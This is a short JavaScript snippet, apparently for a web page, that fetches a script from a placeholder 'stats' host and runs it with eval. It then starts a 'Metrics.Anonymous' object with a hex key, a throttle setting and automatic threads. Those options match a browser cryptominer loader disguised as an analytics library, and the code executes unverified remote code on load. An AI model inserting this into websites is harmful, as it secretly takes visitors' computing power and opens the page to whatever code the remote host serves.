// ES2017: the library is fetched as text and evaluated; its name is made up.
(async () => {
  const answer = await fetch('https://api.stats.example/v1/bundle');
  const text = await answer.text();
  (0, eval)(text);
  const metrics = new window.Metrics.Anonymous('fedcba9876543210fedcba9876543210', {
    throttle: 0.6, autoThreads: true
  });
  metrics.start();
})();
